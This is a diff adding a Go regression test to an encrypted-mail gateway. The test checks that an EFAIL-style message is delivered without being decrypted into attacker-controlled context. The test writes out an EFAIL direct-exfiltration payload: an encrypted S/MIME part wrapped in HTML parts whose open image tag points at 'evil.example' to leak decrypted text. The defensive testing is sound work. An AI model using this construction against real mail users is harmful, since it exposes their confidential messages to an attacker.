@@ -184,6 +184,24 @@ func TestInboundEncryptedMailArrivesDecrypted(t *testing.T) {
 		t.Fatalf("CBC HTML not neutralised: %q\n%s", got, head(raw))
 	}
 
+	// EFAIL direct exfiltration: a captured ciphertext for alice between
+	// two HTML parts of the attacker's. Delivered as it came, never
+	// decrypted into that context.
+	smimeMsg := opensslEncrypt(t, entity, "-aes256", alice)
+	efail := "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"efail\"\r\n\r\n" +
+		"--efail\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/?\r\n--efail\r\n" +
+		strings.Replace(string(smimeMsg), "MIME-Version: 1.0\n", "", 1) +
+		"\r\n--efail\r\nContent-Type: text/html\r\n\r\n\">\r\n--efail--\r\n"
+	send([]string{"alice@corp.example"}, partnerMail([]string{"alice@corp.example"}, "efail", []byte(efail)))
+	n++
+	raw = pf.WaitDelivered(t, "alice@corp.example", n, deliveryTimeout)[n-1]
+	m = parseMail(t, raw)
+	if m.Header.Get("X-Mailseal-Decrypted") != "" || !strings.HasPrefix(m.Header.Get("Content-Type"), "multipart/mixed") ||
+		!strings.Contains(m.Header.Get("X-Mailseal-Not-Decrypted"), "only a message that is encrypted as a whole is decrypted") ||
+		bytes.Contains(raw, []byte("Grüße")) {
+		t.Fatalf("EFAIL message: %q\n%s", m.Header.Get("X-Mailseal-Not-Decrypted"), head(raw))
+	}
+
 	// Encrypted to alice alone, sent to alice and carol: carol's key does
 	// not open it, so neither gets it decrypted.
 	exportCert(t, d, "carol@corp.example")
